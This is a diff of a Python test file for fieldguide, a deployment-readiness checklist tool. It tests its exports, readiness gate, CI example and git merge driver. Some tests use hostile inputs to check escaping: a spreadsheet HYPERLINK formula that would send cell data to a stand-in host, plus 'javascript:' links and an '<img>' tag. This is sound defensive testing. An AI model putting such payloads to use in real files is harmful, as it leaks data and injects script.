@@ -2,15 +2,27 @@
 
 from __future__ import annotations
 
+import csv
+import html
+import io
 import json
 import os
+import re
+import shlex
+import shutil
+import subprocess
+import sys
 from datetime import UTC, datetime
 from pathlib import Path
 
+import markdown
 import pytest
+import yaml
+from click.testing import CliRunner
 
 from conftest import HERE, VALID, cli
-from fieldguide import checklist, graph, load
+from fieldguide import checklist, escape, graph, load, plan
+from fieldguide.cli import main
 
 STATES = HERE / "states"
 GOLDEN = HERE / "golden" / "checklist"
@@ -21,17 +33,20 @@ SITE = "https://guide.example.org/"
 def exports() -> dict[str, str]:
     cat = load.load(VALID)
     g = graph.build(cat)
-    state, problems = checklist.read_state(STATES / "progress.json", cat)
-    assert problems == []
+    state, problems = checklist.read_state(STATES / "progress.json", cat)  # a version 1 file
+    team, problems2 = checklist.read_state(STATES / "team.json", cat)  # version 2: every status, hostile text
+    assert problems == problems2 == []
     rows = checklist.rows(cat)
     return {
         "progress.md": checklist.to_markdown(cat, g, rows, state, SITE, "Deployment checklist: all stages"),
         "progress.csv": checklist.to_csv(cat, g, rows, state),
         "progress.json": checklist.to_json(cat, rows, state, now=NOW),
+        "team.md": checklist.to_markdown(cat, g, rows, team, SITE, "Deployment checklist: all stages"),
+        "team.csv": checklist.to_csv(cat, g, rows, team),
     }
 
 
-@pytest.mark.parametrize("name", ["progress.md", "progress.csv", "progress.json"])
+@pytest.mark.parametrize("name", ["progress.md", "progress.csv", "progress.json", "team.md", "team.csv"])
 def test_export_matches_golden_file(name: str) -> None:
     text = exports()[name]
     if os.environ.get("UPDATE_GOLDEN"):
@@ -43,7 +58,8 @@ def test_export_matches_golden_file(name: str) -> None:
 def test_markdown_is_a_task_list_with_links_and_readiness() -> None:
     text = exports()["progress.md"]
     assert "Readiness: **0%**" in text, "the lowest stage: model deployment has 0 of 1 done"
-    assert "## Data management — 50% (1/2 done)" in text, "one item done, one of the other two not applicable"
+    assert "## Data management — 50% (1/2 resolved)" in text, "one item done, one of the other two not applicable"
+    assert "| Data management | 50% | 1 | 0 | 0 | 1 | 1 |" in text, "the summary table a reviewer reads first"
     assert "- [x] Every data source has a named owner. — owner: Ana — note: See the data map in the wiki" in text
     assert "[Data discovery](https://guide.example.org/challenges/data-discovery/)" in text
     assert "&lt;b>source&lt;/b>" in text, "user text cannot inject HTML into a rendered Markdown file"
@@ -73,13 +89,14 @@ def test_orphaned_items_are_kept_and_listed() -> None:
 def test_cli_checklist_with_state_reports_orphans(valid_catalog: Path) -> None:
     result = cli("checklist", "--format", "json", "--state", STATES / "progress.json")
     assert "1 item(s) in" in result.stderr and "retired-check-from-an-old-catalog" in result.stderr
-    assert json.loads(result.stdout)["readiness"]["stages"]["data-management"] == {
-        "done": 1, "applicable": 2, "score": 0.5}
+    items = {i["id"]: i for i in json.loads(result.stdout)["items"]}
+    assert items["data-discovery-catalogue"]["reason"] == "Single <b>source</b> system"
+    assert json.loads(result.stdout)["version"] == 2, "a version 1 file comes back as version 2"
 
 
 @pytest.mark.parametrize(("name", "expected"), [
     ("malformed.json", "malformed.json:6: checklist: items[1].status: must be one of 'open', 'done' or 'na'"),
-    ("truncated.json", "truncated.json:3: truncated: -: YAML does not parse"),
+    ("truncated.json", "truncated.json:3: checklist: -: not valid JSON: Expecting value"),
 ])
 def test_cli_refuses_a_malformed_state_and_writes_nothing(valid_catalog: Path, tmp_path: Path, name: str,
                                                           expected: str) -> None:
@@ -92,8 +109,9 @@ def test_cli_refuses_a_malformed_state_and_writes_nothing(valid_catalog: Path, t
 def test_cli_checklist_limits_to_a_stage(valid_catalog: Path) -> None:
     result = cli("checklist", "--stage", "model-deployment", "--format", "csv")
     rows = result.stdout.splitlines()
-    assert rows[0] == "stage,step,challenge,item_id,text,status,reason,owner,note"
+    assert rows[0] == "stage,step,challenge,item_id,text,status,reason,owner,note,evidence,updated,by,covers"
     assert [r.split(",")[3] for r in rows[1:]] == ["feedback-loops-holdout"]
+    assert rows[1].endswith(",Example rubric M1"), "each check says which framework items it covers"
     result = cli("checklist", "--stage", "deploy", code=1)
     assert "unknown stage 'deploy'" in result.stderr
 
@@ -109,3 +127,174 @@ def test_brief_has_checklists_precedents_mitigations_and_bibliography(valid_cata
     assert "- Lin and Ryaboy, 2013. Jimmy Lin and Dmitriy Ryaboy" in text
     bib = (tmp_path / "brief.bib").read_text(encoding="utf-8")
     assert "@article{lin2013scaling," in bib and "@misc{paleyes2020challenges," in bib
+
+
+# ---------------------------------------------------------------- readiness, the gate, the plan layout
+
+
+def test_accepted_risk_counts_as_resolved_and_in_progress_does_not() -> None:
+    cat = load.load(VALID)
+    per_stage = plan.readiness(cat, {"data-discovery-source-owners": "accepted-risk",
+                                     "data-discovery-catalogue": "in-progress", "data-profiling-report": "na"})
+    r = per_stage["data-management"]
+    assert (r.done, r.accepted, r.resolved, r.applicable, r.score) == (0, 1, 1, 2, 0.5)
+
+
+def test_single_stage_markdown_does_not_call_its_readiness_the_lowest_stage(valid_catalog: Path) -> None:
+    one = CliRunner().invoke(main, ["checklist", "--stage", "data-management", "--state", str(STATES / "team.json")])
+    every = CliRunner().invoke(main, ["checklist", "--state", str(STATES / "team.json")])
+    assert "Readiness: **67%**. Readiness = " in one.stdout and "lowest" not in one.stdout
+    assert "Readiness: **0%**, the lowest stage's." in every.stdout
+
+
+@pytest.mark.parametrize(("args", "code", "expected"), [
+    ([], 1, ["data-management: Data management: 67% (2/3 resolved) — below 100%",
+             "  in progress data-profiling-report: A profile report exists for every training set. (owner: -Kim)",
+             "model-deployment: Model deployment: 0% (0/1 resolved) — below 100%",
+             "  open        feedback-loops-holdout: A holdout group never sees model output. (owner: Raj)",
+             "gate failed: 2 of 2 stage(s) below 100% readiness"]),
+    (["--stage", "data-management", "--min-readiness", "0.6"], 0,
+     ["data-management: Data management: 67% (2/3 resolved) — ready",
+      "gate passed: 1 stage(s) at or above 60% readiness"]),
+    (["--stage", "data-management", "--min-readiness", "0.7"], 1,
+     ["data-management: Data management: 67% (2/3 resolved) — below 70%",
+      "  in progress data-profiling-report: A profile report exists for every training set. (owner: -Kim)",
+      "gate failed: 1 of 1 stage(s) below 70% readiness"]),
+])
+def test_gate_passes_and_fails_listing_the_open_items(valid_catalog: Path, args: list[str], code: int,
+                                                      expected: list[str]) -> None:
+    result = CliRunner().invoke(main, ["gate", "--state", str(STATES / "team.json"), *args])
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert result.exit_code == code
+    assert result.stdout.splitlines() == expected
+
+
+def test_gate_passes_when_every_applicable_item_is_resolved(valid_catalog: Path, tmp_path: Path) -> None:
+    state = tmp_path / "ready.json"
+    state.write_text(json.dumps({"format": "fieldguide-checklist", "version": 2, "items": [
+        {"id": "data-discovery-source-owners", "status": "done"},
+        {"id": "data-discovery-catalogue", "status": "accepted-risk", "reason": "one source"},
+        {"id": "data-profiling-report", "status": "na", "reason": "no training data of our own"},
+        {"id": "feedback-loops-holdout", "status": "na", "reason": "batch scoring only"}]}))
+    result = CliRunner().invoke(main, ["gate", "--state", str(state)])
+    assert result.exit_code == 0, result.output
+    assert "model-deployment: Model deployment: n/a (0/0 resolved) — ready" in result.stdout, "nothing applies"
+
+
+def test_gate_refuses_bad_input_with_exit_1(valid_catalog: Path) -> None:
+    assert CliRunner().invoke(main, ["gate", "--state", str(STATES / "malformed.json")]).exit_code == 1
+    unknown = CliRunner().invoke(main, ["gate", "--state", str(STATES / "team.json"), "--stage", "deploy"])
+    assert unknown.exit_code == 1 and "unknown stage 'deploy'" in unknown.stderr
+    assert CliRunner().invoke(main, ["gate", "--state", str(STATES / "team.json"),
+                                     "--min-readiness", "1.5"]).exit_code == 2  # click: usage error
+
+
+def test_plan_markdown_lists_challenges_in_rank_order_without_repeating_stage_headings(valid_catalog: Path,
+                                                                                        tmp_path: Path) -> None:
+    profile = tmp_path / "p.yaml"
+    profile.write_text("name: Fraud model\nindustry: healthcare\ntraits: [regulated]\n")
+    result = CliRunner().invoke(main, ["plan", "--profile", str(profile), "--format", "md"])
+    assert result.exit_code == 0, result.output
+    assert re.findall(r"^## .*", result.stdout, re.MULTILINE) == ["## Challenges, most likely to matter first"]
+    ranked = re.findall(r"^### (\d+)\. \[(.+?)\]", result.stdout, re.MULTILINE)
+    assert [n for n, _ in ranked] == [str(i) for i in range(1, len(ranked) + 1)] and len(ranked) == 3
+
+
+# ---------------------------------------------------------------- safe exports: every CSV, every Markdown
+
+
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_every_csv_the_project_writes_starts_no_formula(valid_catalog: Path, tmp_path: Path) -> None:
+    profile = tmp_path / "p.yaml"
+    profile.write_text("industry: healthcare\n")
+    outputs = {
+        "checklist": CliRunner().invoke(main, ["checklist", "--format", "csv", "--state", str(STATES / "team.json")]),
+        "plan": CliRunner().invoke(main, ["plan", "--profile", str(profile), "--format", "csv",
+                                          "--state", str(STATES / "team.json")]),
+        "export": CliRunner().invoke(main, ["export", "--format", "csv"]),
+    }
+    for name, result in outputs.items():
+        assert result.exit_code == 0, (name, result.output)
+        bad = [c for c in _cells(result.stdout) if c.startswith(FORMULAS)]
+        assert bad == [], name
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"go\")" in _cells(outputs["checklist"].stdout)
+    assert "'@raj" in _cells(outputs["plan"].stdout) and "'-Kim" in _cells(outputs["plan"].stdout)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "plain", "", "'quoted"])
+def test_csv_cell_follows_owasp(text: str) -> None:
+    assert escape.csv_cell(text) == ("'" + text if text[:1] in FORMULAS and text else text)
+
+
+def test_markdown_text_cannot_start_a_link_image_code_span_or_tag() -> None:
+    hostile = "[x](javascript:alert(1)) ![i](http://x.example/a.png) <img src=x> `c` \\[y](z)"
+    rendered = markdown.markdown("- " + escape.markdown_text(hostile))
+    assert "<a" not in rendered and "<img" not in rendered and "<code" not in rendered
+    assert "[x](javascript:alert(1))" in html.unescape(re.sub(r"<[^>]+>", "", rendered))
+
+
+# ---------------------------------------------------------------- the team workflow, as documented
+
+
+DOCS = HERE.parent / "scripts" / "fieldguide" / "templates" / "team_workflow.md.j2"
+EXAMPLE = HERE.parent / "examples" / "github-actions" / "deployment-readiness.yml"
+
+
+def test_the_github_actions_example_is_the_one_in_the_docs_and_its_commands_run(tmp_path: Path,
+                                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    text = EXAMPLE.read_text(encoding="utf-8")
+    assert "```yaml\n" + text + "```" in DOCS.read_text(encoding="utf-8")
+    workflow = yaml.safe_load(text)
+    steps = workflow["jobs"]["gate"]["steps"]
+    commands = [" ".join(s["run"].split()) for s in steps if "fieldguide" in s.get("run", "")]
+    assert len(commands) == 2
+    # Run them as CI would, against this repository's catalog and a project with a state file.
+    (tmp_path / "project" / "planning").mkdir(parents=True)
+    shutil.copy(STATES / "team.json", tmp_path / "project" / "planning" / "checklist.json")
+    shutil.copytree(VALID, tmp_path / "field-guide" / "catalog")
+    monkeypatch.chdir(tmp_path)
+    results = []
+    for command in commands:
+        result = CliRunner().invoke(main, shlex.split(command.split(">>")[0])[1:])
+        assert result.exception is None or isinstance(result.exception, SystemExit), command
+        results.append(result)
+    assert results[0].exit_code == 0 and results[0].stdout.startswith("# Deployment checklist: all stages")
+    assert results[1].exit_code == 1 and "gate failed" in results[1].stdout, "team.json is not ready"
+
+
+def test_git_merges_the_state_file_with_the_documented_driver(tmp_path: Path) -> None:
+    """The merge driver from the docs, in a real repository: two branches change the state file."""
+    def git(*args: str) -> str:
+        return subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True, text=True).stdout
+
+    exe = shutil.which("fieldguide") or str(Path(sys.executable).parent / "fieldguide")
+    git("init", "-q", "-b", "main")
+    git("config", "user.email", "t@example.org")
+    git("config", "user.name", "T")
+    git("config", "merge.fieldguide-checklist.driver", f"{exe} checklist merge %A %B --out %A")
+    (tmp_path / ".gitattributes").write_text("planning/checklist.json merge=fieldguide-checklist\n")
+    (tmp_path / "planning").mkdir()
+    state = tmp_path / "planning" / "checklist.json"
+
+    def write(items: list[dict]) -> None:
+        state.write_text(json.dumps({"format": "fieldguide-checklist", "version": 2, "items": items}, indent=2))
+
+    a, b = "data-discovery-source-owners", "data-discovery-catalogue"
+    write([{"id": a}, {"id": b}])
+    git("add", ".")
+    git("commit", "-qm", "start")
+    git("checkout", "-qb", "raj")
+    write([{"id": a}, {"id": b, "status": "na", "reason": "one source", "updated": "2026-11-29T10:00:00Z"}])
+    git("commit", "-qam", "raj")
+    git("checkout", "-q", "main")
+    write([{"id": a, "status": "done", "updated": "2026-11-29T09:00:00Z"}, {"id": b}])
+    git("commit", "-qam", "ana")
+    git("merge", "-q", "raj", "-m", "merge")  # raises if git reports a conflict
+    merged = {i["id"]: i for i in json.loads(state.read_text())["items"]}
+    assert merged[a]["status"] == "done" and merged[b]["status"] == "na"
